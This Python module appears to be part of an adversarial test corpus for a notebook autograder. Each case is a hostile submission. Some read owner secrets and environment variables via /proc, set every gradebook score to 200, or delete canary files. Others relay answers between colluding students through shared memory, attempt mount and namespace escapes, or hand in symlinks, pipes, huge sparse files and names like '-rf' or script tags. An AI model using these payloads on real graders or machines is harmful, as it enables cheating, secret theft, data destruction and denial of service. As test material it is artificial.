"""Files of others are read, written, linked to, left behind; and what is handed in is hardly a file."""

# ruff: noqa: E501  (the lines of attackers are as long as they are)

import os
import socket
from functools import partial

import nbformat

from attacks.corpus import NOTHING_HIDDEN, attack, code

code = partial(code, theme="files")
attack = partial(attack, theme="files")

code(
    "reads-secrets",
    "opens files of the machine's owner: in /tmp, /var/tmp, the home directory, shared memory, by every known road",
    """
for secret in KNOWN['secrets']:
    for path in (secret, '/proc/1/root' + secret, f'/proc/{os.getppid()}/root' + secret, '/proc/self/cwd/../../../../../../../..' + secret):
        try:
            leaked(open(path).read()[:40])
        except OSError as error:
            print(type(error).__name__)
""",
    honest=["softsign"],
    not_stopped=NOTHING_HIDDEN,
)
code(
    "reads-the-course",
    "reads the gradebook, the sources with the hidden tests, the release and other students' answers",
    """
for path in (KNOWN['gradebook'], KNOWN['source'], KNOWN['neighbour'], KNOWN['course'] + '/nbgrader_config.py', KNOWN['course'] + '/secret',
             KNOWN['repository'] + '/autograder/checks/vanilla/answers.py', KNOWN['repository'] + '/solutions/vanilla/numpy.py'):
    try:
        leaked(path + repr(open(path, 'rb').read()[:30]))
    except OSError as error:
        print(type(error).__name__)
""",
    honest=["softsign"],
    # "the real notebook, for answers": what it finds there it hands in
    answers={
        "moving-average": "import json\ndef moving_average(x, decay):\n    cells = json.load(open(KNOWN['source']))['cells']\n"
        "    for c in cells:\n        if ''.join(c['source']).startswith('def moving_average'):\n"
        "            g = {'np': np}\n            exec(''.join(c['source']), g)\n            return g['moving_average'](x, decay)"
    },
    not_stopped=NOTHING_HIDDEN,
)
code(
    "writes-the-gradebook",
    "sets every score in the gradebook to 200, its own and its neighbour's",
    """
import sqlite3
try:
    base = sqlite3.connect(KNOWN['gradebook'], timeout=0.2)
    base.execute('UPDATE grade SET manual_score = 200, auto_score = 200')
    base.execute('UPDATE grade SET needs_manual_grade = 0')
    base.commit()
    leaked('gradebook written')
except BaseException as error:
    print(type(error).__name__)
""",
    answers={
        "is-stable": "def is_stable(U):\n    import sqlite3\n    base = sqlite3.connect(KNOWN['gradebook'], timeout=0.2)\n"
        "    base.execute('UPDATE grade SET extra_credit = 200')\n    base.commit()\n    return False"
    },
    honest=["softsign"],
    not_stopped=NOTHING_HIDDEN,
)
code(
    "writes-everywhere",
    "leaves files in every place where files outlive a process",
    """
import glob, site
home = os.path.expanduser('~')
places = [*KNOWN['drops'], KNOWN['course'] + '/submitted', KNOWN['course'], os.path.dirname(KNOWN['neighbour'])]
for place in places:
    try:
        with open(os.path.join(place, 'left-by-an-attack'), 'w') as f:
            f.write('x')
        leaked('written to ' + place)
    except OSError as error:
        print(type(error).__name__)
""",
    honest=["softsign"],
    not_stopped=NOTHING_HIDDEN,
)
code(
    "writes-the-environment",
    "adds a module to site-packages, a byte-code file to a __pycache__, and a start-up file to the home directory",
    """
import numpy
places = [os.path.dirname(os.path.dirname(numpy.__file__)), os.path.join(os.path.dirname(numpy.__file__), '__pycache__'),
          KNOWN['repository'] + '/autograder', os.path.dirname(os.__file__)]
for place in places:
    path = os.path.join(place, 'unrolled_attack_' + KNOWN['mark'].replace('-', '_') + '.py')
    try:
        open(path, 'w').write('x = 1')
        leaked('written to ' + place)
        os.remove(path)
    except OSError as error:
        print(type(error).__name__)
""",
    honest=["softsign"],
    unsafe="writes into this machine's Python environment",
    not_stopped=NOTHING_HIDDEN,
)
code(
    "removes-what-it-finds",
    "deletes, truncates, renames and re-permits the canary files",
    """
import shutil
for secret in KNOWN['secrets']:
    for act in (lambda: os.truncate(secret, 0), lambda: os.chmod(secret, 0o777), lambda: os.utime(secret, (0, 0)),
                lambda: os.rename(secret, secret + '.mine'), lambda: os.remove(secret), lambda: shutil.rmtree(os.path.dirname(secret))):
        try:
            act()
            leaked('changed ' + secret)
        except OSError as error:
            print(type(error).__name__)
""",
    honest=["softsign"],
    not_stopped=NOTHING_HIDDEN,
)
code(
    "reads-the-environment",
    "reads environment variables: its own, its ancestors', the initial block of its process",
    """
needle = KNOWN['env_name'].encode()
if KNOWN['env_name'] in os.environ:
    leaked('os.environ')
ctypes.CDLL(None).getenv.restype = ctypes.c_char_p
if ctypes.CDLL(None).getenv(needle):
    leaked('getenv')
for pid in ['self', *filter(str.isdigit, os.listdir('/proc'))]:
    try:
        if needle in open(f'/proc/{pid}/environ', 'rb').read():
            leaked('environment of ' + pid)
    except OSError:
        pass
""",
    honest=["softsign"],
    not_stopped=NOTHING_HIDDEN,
)
code(
    "leaves-a-message",
    "leaves an answer for an accomplice in files, shared memory, SysV segments, keyrings and abstract sockets",
    """
text = '6.5788'
for place in ('/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~'), os.getcwd(), '/run/lock', '/var/lock'):
    try:
        open(place + '/unrolled-accomplice', 'w').write(text)
        os.chmod(place + '/unrolled-accomplice', 0o666)
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
segment = libc.shmget(0x7c1f, 64, 0o1666)
if segment >= 0:
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(segment, None, 0)
    if address not in (None, 2**64 - 1):
        ctypes.memmove(address, text.encode(), len(text))
libc.syscall(248, b'user', b'unrolled-accomplice', text.encode(), len(text), -4)
""",
    honest=["softsign"],
    student="relay-1",
    not_stopped=NOTHING_HIDDEN,
)
code(
    "picks-a-message-up",
    "its accomplice, graded later, looks for the message and hands it in",
    """
found = None
for place in ('/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~'), os.getcwd(), '/run/lock', '/var/lock'):
    try:
        found = open(place + '/unrolled-accomplice').read()
        leaked('message in ' + place)
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
segment = libc.shmget(0x7c1f, 64, 0o666)
if segment >= 0:
    libc.shmat.restype = ctypes.c_void_p
    leaked('message in a SysV segment')
    found = ctypes.string_at(libc.shmat(segment, None, 0)).decode()
    libc.shmctl(segment, 0, None)
key = libc.syscall(250, 10, -4, b'user', b'unrolled-accomplice', 0)
if key >= 0:
    leaked('message in a keyring')
    libc.syscall(250, 3, key)
""",
    answers={"half-life": "half_life = float(found or 42)"},
    honest=["softsign"],
    student="relay-2",
    not_stopped=NOTHING_HIDDEN,
)
code(
    "locks-what-others-need",
    "takes locks on the gradebook and on files that every kernel reads, and keeps them",
    """
import fcntl, numpy
for path in (KNOWN['gradebook'], numpy.__file__, os.__file__, '/dev/null', '/etc/passwd'):
    for flags in (os.O_RDWR, os.O_RDONLY):
        try:
            fd = os.open(path, flags)
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            fcntl.lockf(fd, fcntl.LOCK_SH | fcntl.LOCK_NB, 0)
        except OSError:
            pass
""",
    honest=["softsign"],
    not_stopped=NOTHING_HIDDEN,
)
code(
    "mounts-and-namespaces",
    "makes namespaces, mounts, device nodes and chroots of its own to climb out with",
    """
libc = ctypes.CDLL(None, use_errno=True)
try:
    os.unshare(0x10020000)
except (OSError, AttributeError):
    pass
for kind, target in ((b'proc', b'/proc'), (b'tmpfs', b'/tmp'), (b'devtmpfs', b'/dev'), (b'sysfs', b'/sys')):
    libc.mount(b'none', target, kind, 0, None)
libc.umount2(b'/', 2)
for path in ('/tmp/unrolled-node', os.getcwd() + '/node'):
    try:
        os.mknod(path, 0o60666, os.makedev(254, 0))
        os.close(os.open(path, os.O_RDONLY))
        leaked('block device opened')
        os.remove(path)
    except OSError:
        pass
for secret in KNOWN['secrets']:
    try:
        leaked(open(secret).read())
    except OSError as error:
        print(error)
""",
    honest=["softsign"],
    unsafe="mounts file systems",
    not_stopped=NOTHING_HIDDEN,
)


def whole(name: str, tries: str, fill, **more) -> None:
    """A hand-in that is a folder: `fill(folder, notebook, known)` puts files there."""

    @attack(name, tries, **more)
    def build(notebook, known):
        return lambda folder: fill(folder, notebook, known)


def bytes_of(notebook) -> bytes:
    return nbformat.writes(notebook).encode()


whole(
    "notebook-is-a-link-to-a-secret",
    "the notebook is a symbolic link to a file of the machine's owner",
    lambda folder, notebook, known: (folder / "numpy.ipynb").symlink_to(known["secrets"][0]),
)
whole(
    "notebook-is-a-link-to-a-neighbour",
    "the notebook is a symbolic link to another student's, who has it right",
    lambda folder, notebook, known: (folder / "numpy.ipynb").symlink_to(known["neighbour"]),
)
whole(
    "notebook-is-a-hard-link",
    "the notebook is a hard link to another student's",
    lambda folder, notebook, known: os.link(known["neighbour"], folder / "numpy.ipynb"),
)
whole(
    "notebook-is-a-hard-link-to-the-solution",
    "the notebook is a hard link to the teacher's, with all answers and hidden tests",
    lambda folder, notebook, known: os.link(known["source"], folder / "numpy.ipynb"),
)
whole(
    "notebook-is-a-hard-link-made-to-look-old",
    "the same as a neighbour's, twice, and its folder's times are set back",
    lambda folder, notebook, known: (
        os.link(known["neighbour"], folder / "numpy.ipynb"),
        (folder / "below").mkdir(),
        os.link(known["neighbour"], folder / "below" / "numpy.ipynb"),
        os.utime(folder, (0, 0)),
    ),
)
whole(
    "notebook-has-a-checkpoint-that-is-a-link",
    "has its own notebook a second time, as a hard link, which is no attack",
    lambda folder, notebook, known: (
        (folder / "numpy.ipynb").write_bytes(bytes_of(notebook)),
        (folder / ".ipynb_checkpoints").mkdir(),
        os.link(folder / "numpy.ipynb", folder / ".ipynb_checkpoints" / "numpy-checkpoint.ipynb"),
    ),
    honest=["softsign"],
)
whole(
    "notebook-is-a-pipe",
    "the notebook is a named pipe that nobody writes to, so that opening it never ends",
    lambda folder, notebook, known: os.mkfifo(folder / "numpy.ipynb"),
    unsafe="stock nbgrader waits for ever",
)
whole(
    "notebook-is-a-folder",
    "the notebook is a folder with a notebook in it",
    lambda folder, notebook, known: (
        (folder / "numpy.ipynb").mkdir(),
        (folder / "numpy.ipynb" / "numpy.ipynb").write_bytes(bytes_of(notebook)),
    ),
)
whole(
    "notebook-is-endless",
    "the notebook is a link to /dev/zero",
    lambda folder, notebook, known: (folder / "numpy.ipynb").symlink_to("/dev/zero"),
    unsafe="stock nbgrader reads it until memory is full",
)
whole(
    "notebook-is-huge-and-hollow",
    "the notebook is a sparse file of eight gigabytes",
    lambda folder, notebook, known: (
        (folder / "numpy.ipynb").write_bytes(b"{"),
        os.truncate(folder / "numpy.ipynb", 8 * 2**30),
    ),
    unsafe="stock nbgrader reads it into memory",
)


def _socket(folder, notebook, known):
    here = os.getcwd()  # noqa: PTH109
    os.chdir(folder)
    try:
        socket.socket(socket.AF_UNIX).bind("numpy.ipynb")
    finally:
        os.chdir(here)


whole("notebook-is-a-socket", "the notebook is a UNIX socket", _socket)


def _links(folder, notebook, known):
    (folder / "numpy.ipynb").write_bytes(bytes_of(notebook))
    (folder / "data.csv").symlink_to(known["secrets"][0])
    (folder / "everything").symlink_to("/")
    (folder / "loop").symlink_to("loop")
    (folder / "up").symlink_to("..")
    (folder / "timestamp.txt").symlink_to(known["secrets"][0])
    os.mkfifo(folder / "pipe.txt")


whole(
    "links-beside-the-notebook",
    "links to /, to itself, upwards and to secrets, and a pipe",
    _links,
    honest=["softsign"],
    unsafe="stock nbgrader copies all of / into the course",
)


def _many(folder, notebook, known):
    (folder / "numpy.ipynb").write_bytes(bytes_of(notebook))
    for number in range(3000):
        (folder / f"{number}.txt").write_bytes(b"x")
    (folder / "sparse.bin").write_bytes(b"")
    os.truncate(folder / "sparse.bin", 64 * 2**30)


whole(
    "many-and-hollow-files",
    "three thousand files and a sparse one of 64 gigabytes beside the notebook",
    _many,
    honest=["softsign"],
    unsafe="stock nbgrader copies 64 gigabytes",
)


def _names(folder, notebook, known):
    (folder / "numpy.ipynb").write_bytes(bytes_of(notebook))
    for name in (
        "pytorch.ipynb",
        "NUMPY.ipynb",
        "numpy .ipynb",
        "numpy.ipynb ",
        "<script>unrolled_xss()<.ipynb",
        "-rf",
        "a\nb.ipynb",
        "\x1b[2J.ipynb",
        "..ipynb",
    ):
        (folder / name).write_bytes(bytes_of(notebook))


whole(
    "names-of-files",
    "more notebooks whose names are scripts, escapes, options and near misses",
    _names,
    honest=["softsign"],
)

for _number, (_what, _stamp) in enumerate(
    {
        "long ago": b"1970-01-01 00:00:00 UTC\n",
        "far in the future": b"9999-12-31 23:59:59 UTC\n",
        "not a time": b"\xff\xfe<script>unrolled_xss()</script>\n" * 100,
        "empty": b"",
    }.items(),
    start=1,
):
    whole(
        f"time-stamp-{_number}",
        f"hands in a time stamp that is {_what}",
        lambda folder, notebook, known, stamp=_stamp: (
            (folder / "numpy.ipynb").write_bytes(bytes_of(notebook)),
            (folder / "timestamp.txt").write_bytes(stamp),
        ),
        honest=["softsign"],
    )
